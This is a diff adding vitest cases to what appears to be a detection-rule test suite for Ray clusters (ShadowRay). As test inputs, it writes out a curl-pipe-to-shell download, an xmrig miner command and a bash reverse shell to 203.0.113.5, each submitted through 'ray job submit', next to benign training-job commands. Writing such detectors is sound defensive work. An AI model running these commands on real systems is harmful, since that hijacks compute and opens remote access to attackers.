@@ -5,6 +5,7 @@
  * MLS-RAY-021), and the recorders silenced (logging, security and telemetry agents stopped,
  * auditing turned off, logs wiped: MLS-POISON-006). The neighbouring everyday commands (a help
  * page, a hook read, a tmpfs mounted, an agent looked for, a job's own log written) raise neither.
+ * And a Ray job's entrypoint, read as the command `ray job submit` runs (exec-wrappers.ts).
  */
 import { describe, expect, it } from 'vitest';
 import { execRuleIds, SA } from './exec-events.test-support.js';
@@ -83,3 +84,19 @@ describe('MLS-POISON-006: exec stops a recorder, turns auditing off or wipes log
     ]) expect(execRuleIds(sh(line)), line).not.toContain('MLS-POISON-006');
   });
 });
+
+describe('a Ray job entrypoint is read as the command it runs (ShadowRay)', () => {
+  it('alerts on a miner, a reverse shell or a script piped into a shell submitted to a Ray cluster from a pod', () => {
+    const ray = 'ray job submit --address http://10.0.3.7:8265 --no-wait --';
+    expect(execRuleIds(sh(`${ray} python -c "import os; os.system('curl -s http://203.0.113.5/x.sh | sh')"`))).toContain('MLS-RAY-012');
+    expect(execRuleIds(sh(`${ray} xmrig -o pool.minexmr.com:443 -u x`))).toContain('MLS-RAY-011');
+    expect(execRuleIds(sh(`${ray} bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'`))).toContain('MLS-RAY-015');
+  });
+
+  it('leaves a training job submitted and the job CLI\'s other commands', () => {
+    for (const line of ['ray job submit --address http://ray-head.ml.svc:8265 --working-dir . -- python train.py --epochs 3', 'ray job logs -f raysubmit_123', 'ray status']) {
+      expect(execRuleIds(sh(line)).filter((id) => id.startsWith('MLS-')), line).toEqual([]);
+    }
+  });
+});
+
